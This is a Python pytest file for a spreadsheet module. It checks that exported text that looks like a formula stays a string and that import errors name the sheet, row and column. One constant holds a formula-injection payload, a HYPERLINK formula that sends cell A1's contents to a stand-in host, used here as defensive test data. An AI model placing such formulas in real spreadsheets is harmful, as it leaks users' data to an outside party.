"""Exported text is never a formula, in normal and write-only workbooks, and reads back verbatim."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from domain.spreadsheet import RowError, append_row

HOSTILE = '=HYPERLINK("http://x/?"&A1,"点此")'


@pytest.mark.parametrize("write_only", [False, True])
def test_text_that_looks_like_a_formula_stays_text(write_only: bool) -> None:
    """A name starting with = is stored as a string; numbers stay numbers; control characters are dropped."""
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("导出") if write_only else workbook.active
    assert sheet is not None
    append_row(sheet, [HOSTILE, "+1-2", 42, "正常\x07文本"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(load_workbook(io.BytesIO(buffer.getvalue()))["导出" if write_only else "Sheet"].iter_rows())
    assert [(cell.value, cell.data_type) for cell in row] == [
        (HOSTILE, "s"),
        ("+1-2", "s"),
        (42, "n"),
        ("正常文本", "s"),
    ]


@pytest.mark.parametrize(
    ("error", "text"),
    [
        (RowError(3, "日期", "无法识别"), "第 3 行 日期: 无法识别"),
        (RowError(0, "", "不是有效的 .xlsx 文件"), "文件: 不是有效的 .xlsx 文件"),
        (RowError(4, "系统名称", "必填", sheet="信息系统"), "信息系统 第 4 行 系统名称: 必填"),
        (RowError(0, "", "缺少工作表", sheet="信息系统"), "信息系统: 缺少工作表"),
    ],
)
def test_a_row_error_reads_as_where_to_look_then_what_is_wrong(error: RowError, text: str) -> None:
    """An import problem names the sheet (when the importer reads several), the row as Excel numbers it
    (or the file as a whole) and the column, then the reason."""
    assert str(error) == text
